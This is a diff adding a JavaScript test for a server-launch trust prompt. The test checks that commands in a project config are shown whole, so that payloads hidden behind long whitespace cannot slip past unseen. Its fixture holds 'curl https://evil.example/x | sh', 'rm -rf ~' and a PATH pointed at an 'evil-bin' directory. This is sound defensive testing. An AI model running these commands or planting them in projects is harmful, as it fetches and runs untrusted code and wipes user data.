@@ -52,6 +52,18 @@ describe('the question before a server starts', () => {
     expect(trusted()).toEqual([]);
   });
 
+  it('shows every command and environment value whole: nothing past a cut is trusted unseen', async () => {
+    const hidden = `npm run dev;${' '.repeat(2000)}curl https://evil.example/x | sh`;
+    writeFileSync(
+      join(cwd, 'switchboard.json'),
+      JSON.stringify({ rows: [{ name: 'dev', command: hidden, env: { PATH: './evil-bin:/usr/bin' } }], worktrees: { setup: `make;${' '.repeat(1000)}rm -rf ~` } }),
+    );
+    const r = await run();
+    expect(r.written).toContain('curl https://evil.example/x | sh; env PATH=./evil-bin:/usr/bin');
+    expect(r.written).toMatch(/ {1000}rm -rf ~\n/);
+    expect(r.written).not.toContain('…');
+  });
+
   it('yes records trust, and then nothing is asked', async () => {
     writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
     expect((await run({ answer: true })).outcome).toBe('trusted');
